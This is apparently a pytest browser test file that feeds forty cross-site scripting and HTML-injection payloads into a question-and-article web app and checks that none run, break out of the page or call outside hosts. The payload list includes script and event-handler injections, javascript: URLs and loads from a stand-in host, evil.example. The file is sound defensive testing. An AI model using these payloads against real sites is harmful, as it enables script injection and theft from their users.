"""Hostile words in every place that a page shows words in: nothing runs, nothing is parsed, nothing breaks out."""

import random

import pytest

from index.documents import RawArticle
from tests.browsing import ask, looking, open_chip, site, visit

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='https://evil.example/track.png'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button></form>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</bdi></h2></article></main><h1>broken out</h1>",
    "\"><script>window.pwned=1</script>",
    "' onmouseover='window.pwned=1",
    "\" onfocus=\"window.pwned=1\" autofocus=\"",
    "javascript:window.pwned=1",
    "JaVaScRiPt://%0awindow.pwned=1",
    "\u0001javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "<!--<img src='--><img src=x onerror=window.pwned=1>'>",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202egnp.exe\u202d the other way \u2066 and in \u202b again",
    "\u2067\u2067\u202eunbalanced \u2069\u2069\u2069\u2069 isolates",
    "Z\u0351\u0343\u0300a\u0321\u0489l\u0489g\u0300o \ufeff\u200b\u00ad <b>bold</b>",
)  # fmt: skip

FOREIGN = """() => {
    const ours = ["A", "ARTICLE", "ASIDE", "B", "BDI", "BODY", "BUTTON", "DD", "DETAILS", "DIV", "DL", "DT", "FORM",
        "H1", "H2", "H3", "HEADER", "I", "INPUT", "LABEL", "LI", "MAIN", "MARK", "NAV", "OL", "P", "SECTION", "SPAN",
        "SUMMARY", "TEXTAREA", "TIME", "UL", "svg", "use"];
    const all = [...document.body.querySelectorAll("*")];
    return {
        tags: [...new Set(all.map((e) => e.tagName).filter((tag) => !ours.includes(tag)))],
        handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith("on")),
        links: all.map((e) => e.getAttribute("href"))
            .filter((to) => to && !/^(https?:\\/\\/|\\/|#|\\?version=\\d+$)/.test(to)),
        pwned: window.pwned ?? null,
        h1: document.querySelectorAll("h1").length,
        here: location.host,
    };
}"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    with site(tmp_path_factory.mktemp("hostile")) as opened:
        opened.index.add([hostile(place, payload) for place, payload in enumerate(PAYLOADS)])
        yield opened


def hostile(place, payload):
    """Return an article that is hostile in every field; it alone holds the word that `word` gives."""
    name = word(place + 100).capitalize()
    text = f"{name} opened the {word(place)} {payload} at noon.\n\n{payload}\n\nafter {payload}\n"
    url = payload if place % 2 else f"https://example.org/{payload}"
    return RawArticle(text, id=f"h{place}", title=f"{payload} title", url=url, source=f"{payload} source")


def word(place):
    """Return a word of its own for a place."""
    return "".join(random.Random(place).choices("bcdfghklmnprstvw", k=9))


def clean(page, served):
    told = page.evaluate(FOREIGN)
    expected = {"tags": [], "handlers": [], "links": [], "pwned": None, "h1": 1, "here": served.address[7:]}
    return {name: found for name, found in told.items() if found != expected[name]}


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


def test_no_payload_runs_or_breaks_out_of_the_conversation(browser, served):
    wrong = {}
    with looking(browser) as page:
        requests = []
        page.on("request", lambda request: requests.append(request.url))
        visit(page, served)
        for place, payload in enumerate(PAYLOADS):
            question = f"Who opened the {word(place)}? {payload}"
            turn = ask(page, question)
            assert turn.locator("h2").evaluate("e => e.textContent") == question
            chip = turn.locator(f"a.chip[href^='/articles/h{place}?']").first
            open_chip(page, chip)
            article = served.index.library.article(f"h{place}")
            shown = page.locator("#reading .text").evaluate("e => e.textContent")
            if shown != article.text or chip.evaluate("e => e.textContent") != article.title or clean(page, served):
                wrong[payload] = clean(page, served)
            page.keyboard.press("Escape")
        assert [url for url in requests if not url.startswith(served.address + "/")] == []
    assert wrong == {}


def test_no_payload_runs_on_the_page_of_an_article_or_in_a_title_that_was_given(browser, served):
    wrong = {}
    with looking(browser) as page:
        for place, payload in enumerate(PAYLOADS):
            page.goto(f"{served.address}/articles/h{place}#3-9")
            page.locator(".text").wait_for()
            article = served.index.library.article(f"h{place}")
            shown = page.locator(".text").evaluate("e => e.textContent")
            if shown != article.text or clean(page, served):
                wrong[payload] = clean(page, served)
    assert wrong == {}


def test_labels_and_window_titles_isolate_what_is_not_ours(browser, served):
    with looking(browser) as page:
        visit(page, served)
        isolated = page.evaluate(
            "async (payloads) => payloads.map((await import('/static/dom.js')).isolated)", list(PAYLOADS)
        )
        for made, payload in zip(isolated, PAYLOADS, strict=True):
            assert (made[0], made[-1]) == ("\u2068", "\u2069")
            assert not set(made[1:-1]) & set("\u2066\u2067\u2068\u2069")
            assert list(made[1:-1]) == [c for c in payload if not "\u2066" <= c <= "\u2069"]
        place = next(place for place, payload in enumerate(PAYLOADS) if "\u202e" in payload)
        page.goto(f"{served.address}/articles/h{place}")
        page.locator(".text").wait_for()
        assert page.title().endswith("\u2069 · Sayso")


URLS = {
    "https://example.org/": True, "HTTP://example.org": True, "javascript:alert(1)": False, "//example.org": False,
    "\tjavascript:alert(1)": False, "data:text/html,x": False, "vbscript:x": False, "file:///etc/passwd": False,
    " https://example.org": False, "": False,
}  # fmt: skip


def test_only_web_addresses_are_links(browser, served):
    with looking(browser) as page:
        visit(page, served, "/docs")
        script = (
            "async (urls) => urls.map(((dom) => (url) => Boolean(dom.webLink(url)))(await import('/static/dom.js')))"
        )
        assert page.evaluate(script, list(URLS)) == list(URLS.values())
